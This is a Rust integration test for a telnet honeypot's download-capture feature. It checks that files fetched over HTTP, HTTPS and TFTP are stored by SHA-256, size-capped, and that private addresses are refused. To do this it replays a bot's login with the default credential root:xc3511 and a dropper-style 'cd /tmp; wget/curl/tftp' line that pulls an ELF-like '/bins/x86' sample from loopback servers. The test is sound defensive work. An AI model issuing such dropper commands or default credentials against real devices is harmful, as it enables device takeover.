//! Real downloads (`[downloads] enabled`): what a logged-in bot asks `wget`, `curl` and `tftp`
//! to fetch is fetched from servers this test runs on loopback (plain HTTP with a redirect, an
//! oversized body and a 404; HTTPS from `openssl s_server`; TFTP), stored by SHA-256 and
//! recorded. Off by default, and private destinations refused unless allowed.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use honeyport_event::{Event, EventKind};
use sha2::{Digest, Sha256};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, UdpSocket};

use crate::common::*;

fn config(downloads: &str) -> String {
    format!(
        "{downloads}\n[personas.p]\ntype = \"telnet\"\nfail_delay = 0\n\
         [personas.p.credentials]\naccept = [\"root:xc3511\"]\naccept_any_after = 0\n\n\
         [[listeners]]\nname = \"t\"\nports = 0\nbind = [\"127.0.0.1\"]\npersona = \"p\"\n"
    )
}

/// The ELF-looking sample the HTTP server hands out.
fn sample() -> Vec<u8> {
    let mut v = b"\x7fELF\x01\x01\x01".to_vec();
    v.extend((0..3000u32).map(|i| (i * 7 % 251) as u8));
    v
}

fn sha(b: &[u8]) -> String {
    hex::encode(Sha256::digest(b))
}

/// A loopback HTTP/1.1 server: `/r` redirects to `/bins/x86`, `/bins/x86` is the sample, `/big`
/// is `big` bytes, anything else 404. Keeps each request line and User-Agent.
async fn http_server(big: usize) -> (SocketAddr, Arc<Mutex<Vec<String>>>) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let seen: Arc<Mutex<Vec<String>>> = Default::default();
    let log = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            let log = log.clone();
            tokio::spawn(async move {
                let mut req = Vec::new();
                let mut buf = [0u8; 4096];
                while !contains(&req, b"\r\n\r\n") && req.len() < 16 << 10 {
                    match s.read(&mut buf).await {
                        Ok(n) if n > 0 => req.extend_from_slice(&buf[..n]),
                        _ => return,
                    }
                }
                let text = String::from_utf8_lossy(&req).to_string();
                let line = text.lines().next().unwrap_or_default().to_string();
                let ua = text
                    .lines()
                    .find_map(|l| l.strip_prefix("User-Agent: "))
                    .unwrap_or_default()
                    .to_string();
                log.lock().unwrap().push(format!("{line} | {ua}"));
                let path = line.split(' ').nth(1).unwrap_or_default();
                let (head, body) = match path {
                    "/r" => ("302 Found\r\nLocation: /bins/x86".to_string(), Vec::new()),
                    "/bins/x86" => ("200 OK".to_string(), sample()),
                    "/big" => ("200 OK".to_string(), vec![b'A'; big]),
                    _ => ("404 Not Found".to_string(), b"no".to_vec()),
                };
                let resp = format!(
                    "HTTP/1.1 {head}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = s.write_all(resp.as_bytes()).await;
                let _ = s.write_all(&body).await;
                let _ = s.shutdown().await;
            });
        }
    });
    (addr, seen)
}

/// A loopback TFTP server (RFC 1350) for one read request: answers from a new port, one DATA
/// block per ACK. Returns its address and the file name asked for.
async fn tftp_server(file: Vec<u8>) -> (SocketAddr, tokio::task::JoinHandle<Vec<u8>>) {
    let s = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let addr = s.local_addr().unwrap();
    let task = tokio::spawn(async move {
        let mut buf = [0u8; 600];
        let (n, peer) = s.recv_from(&mut buf).await.unwrap();
        assert_eq!(&buf[..2], &[0, 1], "not a read request");
        let name = buf[2..n].split(|&b| b == 0).next().unwrap().to_vec();
        let mode = buf[2..n].split(|&b| b == 0).nth(1).unwrap().to_vec();
        assert_eq!(mode, b"octet");
        let t = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let mut blocks: Vec<&[u8]> = file.chunks(512).collect();
        if file.len().is_multiple_of(512) {
            blocks.push(&[]);
        }
        for (i, b) in blocks.iter().enumerate() {
            let no = (i + 1) as u16;
            let pkt = [&[0u8, 3][..], &no.to_be_bytes(), b].concat();
            t.send_to(&pkt, peer).await.unwrap();
            let (n, _) = tokio::time::timeout(WAIT, t.recv_from(&mut buf))
                .await
                .expect("ack")
                .unwrap();
            assert_eq!(&buf[..n], &[0, 4, (no >> 8) as u8, no as u8], "ack {no}");
        }
        name
    });
    (addr, task)
}

/// Logs in over telnet as root, runs `line`, returns what the session printed up to the
/// marker the line ends with.
async fn run_as_bot(addr: SocketAddr, line: &str) -> Vec<u8> {
    let mut c = connect(addr).await;
    read_until(&mut c, b"login: ").await;
    send(&mut c, b"root\r\n").await;
    read_until(&mut c, b"Password: ").await;
    send(&mut c, b"xc3511\r\n").await;
    read_until(&mut c, b"# ").await;
    send(&mut c, format!("{line}; echo -e 'D\\x4fNE'\r\n").as_bytes()).await;
    let out = tokio::time::timeout(
        Duration::from_secs(60),
        read_until_long(&mut c, b"DONE\r\n"),
    )
    .await
    .expect("the line finished");
    send(&mut c, b"exit\r\n").await;
    read_to_close(&mut c).await;
    out
}

async fn read_until_long(s: &mut tokio::net::TcpStream, needle: &[u8]) -> Vec<u8> {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while !contains(&got, needle) {
        let n = s.read(&mut buf).await.unwrap();
        assert!(n > 0, "closed early: {:?}", String::from_utf8_lossy(&got));
        got.extend_from_slice(&buf[..n]);
    }
    got
}

fn fetches(events: &[Event]) -> Vec<EventKind> {
    events
        .iter()
        .filter(|e| {
            matches!(
                e.kind,
                EventKind::FileFetched { .. } | EventKind::FileFetchFailed { .. }
            )
        })
        .map(|e| e.kind.clone())
        .collect()
}

fn fetched_for<'a>(f: &'a [EventKind], want: &str) -> &'a EventKind {
    f.iter()
        .find(|k| match k {
            EventKind::FileFetched { url, .. } | EventKind::FileFetchFailed { url, .. } => {
                url.0 == want.as_bytes()
            }
            _ => false,
        })
        .unwrap_or_else(|| panic!("no fetch of {want}: {f:#?}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wget_curl_and_tftp_downloads_are_fetched_and_stored_by_sha256() {
    let (web, seen) = http_server(300_000).await;
    let tftp_file: Vec<u8> = (0..1300u32).map(|i| (i % 253) as u8).collect();
    let (tftp, tftp_task) = tftp_server(tftp_file.clone()).await;
    // HTTPS from a real TLS server: openssl s_server serving files from a folder.
    let www = tempfile::tempdir().unwrap();
    let tls_body = b"#!/bin/sh\necho fetched over TLS\n".to_vec();
    std::fs::write(www.path().join("f.sh"), &tls_body).unwrap();
    let tls_port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let _s_server = tokio::process::Command::new("openssl")
        .current_dir(www.path())
        .args(["s_server", "-quiet", "-WWW", "-accept"])
        .arg(format!("127.0.0.1:{tls_port}"))
        .arg("-cert")
        .arg(fixtures().join("tls-cert.pem"))
        .arg("-key")
        .arg(fixtures().join("tls-key.pem"))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("openssl runs");
    let tls_addr: SocketAddr = format!("127.0.0.1:{tls_port}").parse().unwrap();
    let deadline = tokio::time::Instant::now() + WAIT;
    while tokio::net::TcpStream::connect(tls_addr).await.is_err() {
        assert!(
            tokio::time::Instant::now() < deadline,
            "s_server did not start"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    let sensor = start(&config(
        "[downloads]\nenabled = true\nallow_private = true\nmax_bytes = \"64KiB\"\n",
    ))
    .await;
    let w = format!("http://{web}");
    let urls = [
        format!("{w}/r"),
        format!("{w}/bins/x86"),
        format!("{w}/big"),
        format!("{w}/missing"),
        format!("tftp://{tftp}/boot.bin"),
        format!("https://{tls_addr}/f.sh"),
    ];
    let line = format!(
        "cd /tmp; wget {} -O a; curl -s -o b {}; wget -q -O big {}; wget {}; \
         tftp -g -r boot.bin {} {}; wget -O c {}",
        urls[0],
        urls[1],
        urls[2],
        urls[3],
        tftp.ip(),
        tftp.port(),
        urls[5]
    );
    run_as_bot(sensor.tcp("t"), &line).await;
    assert_eq!(tftp_task.await.unwrap(), b"boot.bin");

    let done = sensor.stop().await;
    done.assert_paired();
    let events = done.all();
    let f = fetches(&events);
    assert_eq!(f.len(), 6, "{f:#?}");
    let stored = |k: &EventKind| match k {
        EventKind::FileFetched {
            sha256,
            len,
            truncated,
            final_url,
            ..
        } => (sha256.clone(), *len, *truncated, final_url.clone()),
        other => panic!("not fetched: {other:?}"),
    };
    let x86 = sample();
    assert_eq!(
        stored(fetched_for(&f, &urls[0])),
        (sha(&x86), x86.len() as u64, false, Some(urls[1].clone()))
    );
    assert_eq!(
        stored(fetched_for(&f, &urls[1])),
        (sha(&x86), x86.len() as u64, false, None)
    );
    let big = vec![b'A'; 64 << 10];
    assert_eq!(
        stored(fetched_for(&f, &urls[2])),
        (sha(&big), big.len() as u64, true, None)
    );
    match fetched_for(&f, &urls[3]) {
        EventKind::FileFetchFailed { reason, .. } => assert!(reason.contains("404"), "{reason}"),
        other => panic!("{other:?}"),
    }
    assert_eq!(
        stored(fetched_for(&f, &urls[4])),
        (sha(&tftp_file), tftp_file.len() as u64, false, None)
    );
    assert_eq!(
        stored(fetched_for(&f, &urls[5])),
        (sha(&tls_body), tls_body.len() as u64, false, None)
    );
    // Each file is stored once, under its SHA-256, with exactly the bytes fetched.
    let dir = done.data_dir().join("downloads");
    for body in [&x86, &big, &tftp_file, &tls_body] {
        assert_eq!(&std::fs::read(dir.join(sha(body))).unwrap(), body);
    }
    let names: Vec<_> = std::fs::read_dir(&dir).unwrap().collect();
    assert_eq!(
        names.len(),
        4,
        "only finished files, no leftovers: {names:?}"
    );
    // The requests looked like the tools that were asked.
    let seen = seen.lock().unwrap().clone();
    assert!(
        seen.contains(&"GET /r HTTP/1.1 | Wget".to_string()),
        "{seen:?}"
    );
    assert!(
        seen.contains(&"GET /bins/x86 HTTP/1.1 | curl/7.88.1".to_string()),
        "{seen:?}"
    );
}

#[tokio::test]
async fn off_by_default_and_private_destinations_refused_unless_allowed() {
    let (web, seen) = http_server(10).await;
    let url = format!("http://{web}/bins/x86");
    // Default: recorded, never fetched.
    let sensor = start(&config("")).await;
    run_as_bot(sensor.tcp("t"), &format!("wget {url}")).await;
    let done = sensor.stop().await;
    done.assert_paired();
    let events = done.all();
    assert!(events.iter().any(
        |e| matches!(&e.kind, EventKind::FileDownload { url: u, .. } if u.0 == url.as_bytes())
    ));
    assert!(fetches(&events).is_empty());
    assert!(!done.data_dir().join("downloads").exists());
    // Enabled, but loopback is not a public address.
    let sensor = start(&config("[downloads]\nenabled = true\n")).await;
    run_as_bot(sensor.tcp("t"), &format!("wget {url}")).await;
    let done = sensor.stop().await;
    done.assert_paired();
    match &fetches(&done.all())[..] {
        [EventKind::FileFetchFailed { reason, .. }] => {
            assert!(reason.starts_with("refused: 127.0.0.1"), "{reason}")
        }
        other => panic!("{other:?}"),
    }
    assert!(
        seen.lock().unwrap().is_empty(),
        "the sensor must not connect"
    );
}

#[tokio::test]
async fn download_settings_are_validated_with_positions() {
    let err = match try_start(&config(
        "[downloads]\nenabled = true\nmax_bytes = \"1B\"\ntimeout = \"2h\"\nmax_concurrent = 0\nmax_redirects = 99\ncolour = 1\n",
    ))
    .await
    {
        Ok(_) => panic!("accepted"),
        Err(e) => e,
    };
    assert!(err.contains("colour"), "{err}");
    let err = match try_start(&config(
        "[downloads]\nenabled = true\nmax_bytes = \"1B\"\ntimeout = \"2h\"\nmax_concurrent = 0\nmax_redirects = 99\n",
    ))
    .await
    {
        Ok(_) => panic!("accepted"),
        Err(e) => e,
    };
    for want in [
        "3:13: downloads.max_bytes",
        "4:11: downloads.timeout",
        "5:18: downloads.max_concurrent",
        "6:17: downloads.max_redirects",
    ] {
        assert!(err.contains(want), "{want} not in {err}");
    }
}
